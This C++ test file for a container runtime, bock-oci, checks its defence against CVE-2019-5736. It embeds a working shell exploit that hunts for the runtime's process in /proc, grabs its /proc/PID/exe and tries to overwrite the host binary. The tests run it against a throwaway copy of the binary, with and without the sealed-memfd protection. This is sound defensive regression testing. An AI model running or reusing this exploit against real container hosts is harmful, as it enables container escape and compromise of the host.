// CVE-2019-5736, the attack itself: a process inside a container grabs the
// runtime's /proc/PID/exe while the runtime's own process sits in the
// container, and writes through it once that process has exec'd (the
// binary is no longer busy then). bock-oci re-executes itself from a
// sealed memfd, so what the attacker holds is the memfd, never the host's
// binary.
//
// Deterministic version: container A runs the attacker; container B joins
// A's pid namespace and is `create`d, so its process (the runtime, blocked
// before exec on the exec fifo) is visible to A for as long as the test
// wants. The attacker opens its exe, the test `start`s B, B execs, and the
// attacker tries to write. A private copy of bock-oci is used, and its
// sha256 compared before and after. The same attack with the protection
// switched off (BOCK_OCI_NO_SEALED_EXE=1, debugging only) must change the
// copy: that shows the test can see a successful attack.
//
// Also, probabilistic: the attacker of A hunting `bock-oci exec`'s
// processes while the test execs into A many times; the binary must stay
// unchanged (whether or not the attacker caught one is only reported).
//
// Root only: without a user namespace the container's root is the host's
// root, the case the CVE was about.
#include <unistd.h>

#include <chrono>
#include <thread>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "bock/common/fs.hpp"
#include "bock/common/subprocess.hpp"
#include "testlib.hpp"

using namespace bock::test;
namespace fs = bock::fs;

namespace {

// Finds a process whose exe is a bock-oci (binary or memfd) other than
// itself, opens it read-only as fd 3 (allowed while it runs), then tries
// to open it read-write and write for up to 5 s. Logs to /tmp/attack.log.
constexpr const char* kAttacker = R"(trap 'exit 0' TERM
touch /tmp/ready
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = 1 ] && continue
    l=$(readlink "$d/exe" 2>/dev/null) || continue
    case "$l" in *bock-oci*|*memfd*) ;; *) continue ;; esac
    ( exec 3<"$d/exe" || exit 1
      echo "gotfd $p $l" >> /tmp/attack.log
      n=0
      while [ $n -lt 500 ]; do
        if printf '\177PWN' 1<>/proc/self/fd/3 2>/dev/null; then echo "write-returned $n" >> /tmp/attack.log; exit 0; fi
        n=$((n+1)); usleep 10000
      done
      echo denied >> /tmp/attack.log ) && exit 0
  done
  usleep 2000
done
)";

std::string sha256(const std::string& path) {
    auto r = run({"sha256sum", path});
    REQUIRE(r.code == 0);
    return r.out.substr(0, 64);
}

bool wait_for(const std::string& path, const std::string& text, int ms) {
    for (int i = 0; i < ms / 20; ++i) {
        if (fs::read_file(path).value_or("").find(text) != std::string::npos) return true;
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return false;
}

struct Attack {
    std::string runtime, state, log;
    std::vector<std::string> env;
    std::vector<std::string> ids;

    Run oci(std::vector<std::string> args) {
        std::vector<std::string> argv{"sh", "-c", "exec \"$@\" </dev/null >/dev/null 2>\"$ERR\"", "sh", runtime,
                                      "--root", state};
        argv.insert(argv.end(), args.begin(), args.end());
        std::string err = tmp_dir() + "/cve.err";
        auto e = env;
        e.push_back("ERR=" + err);
        Run r = run(argv, std::nullopt, e);
        r.err = fs::read_file(err).value_or("");
        UNSCOPED_INFO(fmt::format("{}", fmt::join(args, " ")) << " -> " << r.code << ": " << r.err);
        return r;
    }
    ~Attack() {
        for (const auto& id : ids) (void)oci({"delete", "--force", id});
    }
};

// Runs the deterministic attack with a fresh copy of bock-oci; returns
// whether the copy's sha256 changed, and the attacker's log.
std::pair<bool, std::string> attack_create_start(const std::string& name, bool protection) {
    Attack a;
    a.runtime = tmp_dir() + "/" + name + "-bock-oci";
    a.state = tmp_dir() + "/" + name + "-state";
    REQUIRE(run({"cp", bin("bock-oci"), a.runtime}).code == 0);
    if (!protection) a.env.push_back("BOCK_OCI_NO_SEALED_EXE=1");
    std::string before = sha256(a.runtime);

    std::string ba = make_oci_bundle(name + "-a");
    for (const char* applet : {"readlink", "usleep", "printf"})
        REQUIRE(::symlink("busybox", (ba + "/rootfs/bin/" + applet).c_str()) == 0);
    auto cfg = read_oci_config(ba);
    cfg["process"]["args"] = {"sh", "-c", kAttacker};
    write_oci_config(ba, cfg);
    std::string log = ba + "/rootfs/tmp/attack.log";

    a.ids.push_back(name + "-a");
    REQUIRE(a.oci({"run", "--detach", "--bundle", ba, name + "-a"}).code == 0);
    REQUIRE(wait_for(ba + "/rootfs/tmp/ready", "", 5000));
    auto st = nlohmann::json::parse(run({a.runtime, "--root", a.state, "state", name + "-a"}).out);
    int pid_a = st["pid"];

    // B: its own everything but A's pid namespace.
    std::string bb = make_oci_bundle(name + "-b");
    auto cb = read_oci_config(bb);
    cb["process"]["args"] = {"/bin/true"};
    for (auto& ns : cb["linux"]["namespaces"])
        if (ns["type"] == "pid") ns["path"] = fmt::format("/proc/{}/ns/pid", pid_a);
    write_oci_config(bb, cb);
    a.ids.push_back(name + "-b");
    REQUIRE(a.oci({"create", "--bundle", bb, name + "-b"}).code == 0);
    INFO("attack log: " << fs::read_file(log).value_or(""));
    REQUIRE(wait_for(log, "gotfd", 10000));  // the attacker holds B's exe
    REQUIRE(a.oci({"start", name + "-b"}).code == 0);
    REQUIRE((wait_for(log, "write-returned", 8000) || wait_for(log, "denied", 100)));
    bool changed = sha256(a.runtime) != before;
    return {changed, fs::read_file(log).value_or("")};
}

}  // namespace

TEST_CASE("root: a container cannot overwrite bock-oci through /proc/PID/exe (CVE-2019-5736)", "[root-oci-cve]") {
    for (const char* t : {"sha256sum", "cp"})
        if (!bock::find_program(t)) skip(fmt::format("{} is missing", t));

    SECTION("protected: what the attacker holds is the sealed memfd") {
        auto [changed, log] = attack_create_start("cveon", true);
        INFO("attack log:\n" << log);
        CHECK_THAT(log, Catch::Contains("memfd:bock-oci"));
        CHECK_FALSE(changed);
    }
    SECTION("unprotected (the debugging switch): the same attack rewrites the binary, so the test can fail") {
        auto [changed, log] = attack_create_start("cveoff", false);
        INFO("attack log:\n" << log);
        CHECK(changed);
    }
}

TEST_CASE("root: bock-oci exec into a container that hunts for the runtime leaves the binary unchanged",
          "[root-oci-cve]") {
    Attack a;
    a.runtime = tmp_dir() + "/exec-bock-oci";
    a.state = tmp_dir() + "/exec-state";
    REQUIRE(run({"cp", bin("bock-oci"), a.runtime}).code == 0);
    std::string before = sha256(a.runtime);
    std::string b = make_oci_bundle("cveexec");
    for (const char* applet : {"readlink", "usleep", "printf"})
        REQUIRE(::symlink("busybox", (b + "/rootfs/bin/" + applet).c_str()) == 0);
    auto cfg = read_oci_config(b);
    cfg["process"]["args"] = {"sh", "-c", kAttacker};
    write_oci_config(b, cfg);
    a.ids.push_back("cveexec");
    REQUIRE(a.oci({"run", "--detach", "--bundle", b, "cveexec"}).code == 0);
    REQUIRE(wait_for(b + "/rootfs/tmp/ready", "", 5000));
    for (int i = 0; i < 40 && !fs::exists(b + "/rootfs/tmp/attack.log"); ++i)
        CHECK(a.oci({"exec", "cveexec", "/bin/true"}).code == 0);
    std::string log = b + "/rootfs/tmp/attack.log";
    if (fs::exists(log)) (void)(wait_for(log, "write-returned", 8000) || wait_for(log, "denied", 100));
    INFO("attack log (an attacker may or may not catch an exec):\n" << fs::read_file(log).value_or("(none)"));
    CHECK(sha256(a.runtime) == before);
}
